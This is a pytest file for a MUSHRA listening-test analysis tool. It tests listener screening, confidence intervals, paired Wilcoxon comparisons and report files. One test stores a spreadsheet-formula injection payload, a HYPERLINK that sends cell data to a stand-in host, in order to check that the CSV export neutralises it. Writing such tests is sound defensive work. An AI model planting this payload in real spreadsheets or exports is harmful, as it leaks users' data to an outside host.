"""Analysis over stored sessions: screening applied, per-domain rows, written reports, condition_summary."""

from __future__ import annotations

import csv
import io
import json
import math
from pathlib import Path

import numpy as np
import pytest
from scipy import stats
from statsmodels.stats.multitest import multipletests

from bench.errors import BenchError
from mushra.analysis import TestResults, analyze, condition_summary, default_db_path
from mushra.config import HIDDEN_REFERENCE
from mushra.stats import mean_ci95
from mushra.storage import Storage
from mushra.testing import make_session, make_test_dir
from mushra.validate import validate_session


def _store(test_dir: Path, cfg, sessions) -> None:
    storage = Storage(default_db_path(test_dir, cfg))
    for s in sessions:
        assert storage.add(validate_session(s, cfg))


def test_condition_summary_screens_and_splits_domains(tmp_path: Path) -> None:
    cfg = make_test_dir(tmp_path, n_items=4, seconds=0.1)   # items 1,3 speech; 2,4 music (see make_test_dir)
    items = [p.id for p in cfg.mushra_pages() if p.id != "training"]
    good = []
    for k in range(3):
        scores = {pid: {"reference": 100, "voc_a": 60 + 10 * k + j, "voc_b": 40, "anchor70": 30, "anchor35": 10}
                  for j, pid in enumerate(items)}
        scores["training"] = {"voc_a": 0}
        good.append(make_session(cfg, f"good{k}", scores=scores))
    bad_scores = {pid: {"reference": 50, "voc_a": 99} for pid in items}   # reference < 90 in 100 % of items
    _store(tmp_path, cfg, good + [make_session(cfg, "bad", scores=bad_scores)])

    rows = condition_summary(tmp_path)
    by = {(r["domain"], r["condition"]): r for r in rows}
    assert {d for d, _ in by} == {"speech", "music", "all"}
    a_all = by[("all", "voc_a")]
    expected = [60 + 10 * k + j for k in range(3) for j in range(4)]
    mean, ci = mean_ci95(expected)
    assert a_all["mean"] == pytest.approx(mean) and a_all["ci95"] == pytest.approx(ci)
    assert a_all["n_ratings"] == 12 and a_all["n_listeners"] == 3        # training and "bad" left out
    speech = [60 + 10 * k + j for k in range(3) for j in (0, 2)]
    assert by[("speech", "voc_a")]["mean"] == pytest.approx(sum(speech) / 6)
    assert by[("all", "reference")]["mean"] == 100
    assert [r["condition"] for r in rows if r["domain"] == "all"] == ["reference", "voc_a", "voc_b", "anchor70",
                                                                       "anchor35"]


def test_analyze_writes_reports(tmp_path: Path) -> None:
    cfg = make_test_dir(tmp_path / "t", n_items=2, seconds=0.1)
    _store(tmp_path / "t", cfg, [make_session(cfg, f"s{i}", seed=i) for i in range(4)])
    res, files = analyze(tmp_path / "t", tmp_path / "out")
    assert set(files) == {"summary.csv", "summary.json", "summary.md", "screening.json", "boxplot.png"}
    assert (tmp_path / "out" / "boxplot.png").read_bytes()[:4] == b"\x89PNG"
    summary = json.loads((tmp_path / "out" / "summary.json").read_text())
    assert {r["domain"] for r in summary["rows"]} == {"speech", "music", "all"}
    assert (tmp_path / "out" / "summary.csv").read_text().splitlines()[0] == \
        "domain,condition,mean,ci95,n_ratings,n_listeners,mean_assessors,ci95_assessors"
    md = (tmp_path / "out" / "summary.md").read_text()
    assert "| voc_a |" in md and "4 kept" in md


def test_no_submissions_is_a_clear_error(tmp_path: Path) -> None:
    make_test_dir(tmp_path, n_items=1, seconds=0.1)
    with pytest.raises(BenchError, match="no submissions"):
        condition_summary(tmp_path)


def _answered(cfg, uuid: str, *, seed: int = 0, items: list[str] | None = None, comments: str = "") -> dict:
    s = make_session(cfg, uuid, seed=seed, name=comments)
    if items is not None:
        s["trials"] = [t for t in s["trials"] if t["id"] in ["training", *items]]
    return s


def test_partial_assessor_is_excluded_by_default_and_counted(tmp_path: Path) -> None:
    cfg = make_test_dir(tmp_path / "t", n_items=4, seconds=0.1)
    full = [_answered(cfg, f"full{i}", seed=i) for i in range(2)]
    partial = _answered(cfg, "partial", seed=9, items=["item01"])
    _store(tmp_path / "t", cfg, full + [partial])

    res, _ = analyze(tmp_path / "t", tmp_path / "out")
    by = {s.listener: s for s in res.screening()}
    assert (by["partial"].items_rated, by["partial"].items_total, by["partial"].excluded) == (1, 4, True)
    assert by["partial"].reasons == ["rated 1 of 4 items (all are required; --allow-partial keeps partial sessions)"]
    assert (by["full0"].items_rated, by["full0"].excluded) == (4, False)
    assert {r["listener"] for r in res.kept_ratings()} == {"full0", "full1"}
    md = (tmp_path / "out" / "summary.md").read_text()
    assert "| `partial` | 1 of 4 | no |" in md and "| `full0` | 4 of 4 | yes |" in md

    res, _ = analyze(tmp_path / "t", tmp_path / "out2", allow_partial=True)
    assert not any(s.excluded for s in res.screening())
    assert {r["listener"] for r in res.kept_ratings()} == {"full0", "full1", "partial"}
    assert "| `partial` | 1 of 4 | yes |" in (tmp_path / "out2" / "summary.md").read_text()

    from mushra.cli import main
    assert main(["analyze", str(tmp_path / "t"), "--out", str(tmp_path / "out3"), "--allow-partial"]) == 0
    assert "| `partial` | 1 of 4 | yes |" in (tmp_path / "out3" / "summary.md").read_text()


def test_single_listener_has_no_interval(tmp_path: Path) -> None:
    cfg = make_test_dir(tmp_path / "t", n_items=3, seconds=0.1)
    items = [p.id for p in cfg.mushra_pages() if p.id != "training"]
    _store(tmp_path / "t", cfg, [make_session(cfg, "only", scores={pid: {"reference": 100} for pid in items})])
    res, _ = analyze(tmp_path / "t", tmp_path / "out")
    ref = next(r for r in res.summary() if r["domain"] == "all" and r["condition"] == "reference")
    assert ref["n_listeners"] == 1 and math.isnan(ref["ci95"])          # was 0.0, printed "±0.0"
    md = (tmp_path / "out" / "summary.md").read_text()
    assert "| reference | 100.0 | n=1, no interval | 3 | 1 |" in md
    rows = json.loads((tmp_path / "out" / "summary.json").read_text())["rows"]
    assert all(r["ci95"] is None for r in rows)


def test_csv_neutralises_formulas_and_keeps_config_columns(tmp_path: Path) -> None:
    from mushra.analysis import mushra_csv

    cfg = make_test_dir(tmp_path / "t", n_items=1, seconds=0.1)
    evil = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    s = _answered(cfg, "u1", comments=evil)
    for t in s["trials"]:
        for r in t["responses"]:
            r["comment"] = "@SUM(1+1)"
    storage = Storage(default_db_path(tmp_path / "t", cfg))
    storage.add(validate_session(s, cfg))
    # A stored session from before questionnaire names were checked must not widen the export either.
    import sqlite3
    with sqlite3.connect(storage.db_path) as conn:
        extra = json.dumps([["age", "40"]] + [[f"made_up{i}", "x"] for i in range(100)])
        conn.execute("INSERT INTO sessions(uuid, test_id, received, participant, payload) VALUES "
                     "('old', 'synthetic', 0, ?, '{}')", (extra,))
        conn.execute("INSERT INTO ratings VALUES ('old', 'item01', 'voc_a', 50, NULL, '+1', 0)")
    rows = list(csv.reader(io.StringIO(mushra_csv(storage, cfg))))
    assert rows[0] == ["session_test_id", "age", "comments", "session_uuid", "trial_id", "rating_stimulus",
                       "rating_score", "rating_time", "rating_comment"]
    assert {len(r) for r in rows} == {9}
    assert rows[1][2] == "'" + evil and rows[1][8] == "'@SUM(1+1)"
    assert rows[-1][1:3] == ["40", ""] and rows[-1][8] == "'+1"
    assert storage.sessions()[0]["participant"][1] == ("comments", evil)   # the stored answer stays raw
    for cell in (c for r in rows[1:] for c in r):
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


# -- per-assessor statistics and paired comparisons (constructed listeners with known answers) ---------------------
def _listeners(tmp_path: Path, n: int = 8):
    """n assessors, 4 items (1, 3 speech; 2, 4 music): voc_a = 70 + k + 2j, voc_b = 50 + 3k - j (worse for every
    assessor), voc_c = voc_a + 2 (k even) or - 3 (k odd): not significantly worse than voc_a."""
    cfg = make_test_dir(tmp_path / "t", n_items=4, systems=("voc_a", "voc_b", "voc_c"), seconds=0.1)
    items = [p.id for p in cfg.mushra_pages() if p.id != "training"]
    sessions = []
    for k in range(n):
        scores = {pid: {"reference": 100, "anchor70": 40, "anchor35": 10, "voc_a": 70 + k + 2 * j,
                        "voc_b": 50 + 3 * k - j, "voc_c": 70 + k + 2 * j + (2 if k % 2 == 0 else -3)}
                  for j, pid in enumerate(items)}
        scores["training"] = {"voc_a": 0, "voc_b": 0, "voc_c": 0}
        sessions.append(make_session(cfg, f"k{k}", scores=scores))
    _store(tmp_path / "t", cfg, sessions)
    return TestResults.load(tmp_path / "t")


def test_ci_over_assessor_means_and_over_ratings(tmp_path: Path) -> None:
    res = _listeners(tmp_path)
    rows = {(r["domain"], r["condition"]): r for r in res.summary()}
    a = rows[("all", "voc_a")]
    per_assessor = np.array([70 + k + 3.0 for k in range(8)])  # mean of 2j over j = 0..3 is 3
    assert res.assessor_means("all")["voc_a"] == {f"k{k}": 73.0 + k for k in range(8)}
    assert a["mean_assessors"] == pytest.approx(per_assessor.mean())
    lo, hi = stats.t.interval(0.95, 7, loc=per_assessor.mean(), scale=stats.sem(per_assessor))
    assert a["ci95_assessors"] == pytest.approx((hi - lo) / 2)
    ratings = np.array([70 + k + 2 * j for k in range(8) for j in range(4)], dtype=float)
    lo, hi = stats.t.interval(0.95, 31, loc=ratings.mean(), scale=stats.sem(ratings))
    assert a["ci95"] == pytest.approx((hi - lo) / 2) and a["n_ratings"] == 32
    assert a["ci95_assessors"] > a["ci95"]  # 8 assessors, not 32 independent ratings
    speech = rows[("speech", "voc_a")]  # items 1 and 3: j = 0, 2
    assert speech["mean_assessors"] == pytest.approx(np.mean([70 + k + 2.0 for k in range(8)]))


def test_assessor_means_differ_from_rating_means_with_partial_sessions(tmp_path: Path) -> None:
    cfg = make_test_dir(tmp_path / "t", n_items=2, seconds=0.1)
    full = {pid: {"reference": 100, "anchor70": 40, "voc_a": 80} for pid in ("item01", "item02")}
    part = make_session(cfg, "part", scores={"item01": {"reference": 100, "anchor70": 40, "voc_a": 20}})
    part["trials"] = [t for t in part["trials"] if t["id"] in ("training", "item01")]
    _store(tmp_path / "t", cfg, [make_session(cfg, f"f{i}", scores=full) for i in range(2)] + [part])
    res = TestResults.load(tmp_path / "t", allow_partial=True)
    row = next(r for r in res.summary() if r["domain"] == "all" and r["condition"] == "voc_a")
    assert row["mean"] == pytest.approx((4 * 80 + 20) / 5)          # over ratings: the full sessions weigh more
    assert row["mean_assessors"] == pytest.approx((80 + 80 + 20) / 3)  # every assessor counts once


def test_paired_comparisons_on_assessor_means_match_scipy(tmp_path: Path) -> None:
    res = _listeners(tmp_path)
    comps = res.comparisons("all", n_boot=500)
    assert [(c.a, c.b) for c in comps] == [("voc_a", "voc_b"), ("voc_a", "voc_c"), ("voc_b", "voc_c")]
    means = res.assessor_means("all")
    for c in comps:
        d = np.array([means[c.a][k] - means[c.b][k] for k in sorted(means[c.a])])
        ref = stats.wilcoxon(d, method=stats.PermutationMethod(n_resamples=np.inf))  # exact, ties or not
        assert c.p == pytest.approx(ref.pvalue) and c.n == 8
    reject, p_holm, _, _ = multipletests([c.p for c in comps], method="holm")
    assert [c.p_holm for c in comps] == pytest.approx(list(p_holm))
    ab, ac = comps[0], comps[1]
    assert ab.p == pytest.approx(2 / 2 ** 8) and ab.significant and ab.better == "voc_a"
    assert not ac.significant and ac.better is None
    assert all(HIDDEN_REFERENCE not in (c.a, c.b) and "anchor70" not in (c.a, c.b) for c in comps)
    best, with_best = res.compare_with_best("all")
    assert best == "voc_a" and set(with_best) == {"voc_b", "voc_c"}
    assert with_best["voc_b"].better == "voc_a" and not with_best["voc_c"].significant


def test_analyze_reports_both_intervals_and_the_comparisons(tmp_path: Path) -> None:
    _listeners(tmp_path, n=5)
    res, files = analyze(tmp_path / "t", tmp_path / "out")
    md = files["summary.md"].read_text()
    assert "| condition | mean | ±95% CI | ratings | listeners | mean (assessors) | ±95% CI (assessors) |" in md
    assert "Paired comparisons (3 pair(s), Holm across them):" in md
    assert "| voc_a | voc_b | 5 |" in md
    # 5 assessors: the smallest Wilcoxon p is 0.0625, and the report says nothing can be significant
    assert "voc_a vs voc_b: 5 non-zero difference(s): the smallest possible p is 0.0625" in md
    doc = json.loads(files["summary.json"].read_text())
    pairs = doc["comparisons"]["pairs"]
    assert {(p["domain"], p["a"], p["b"]) for p in pairs} >= {("all", "voc_a", "voc_b"), ("music", "voc_b", "voc_c")}
    assert all(p["significant"] is False for p in pairs)
    assert "per-assessor means" in doc["ci_assessors"]
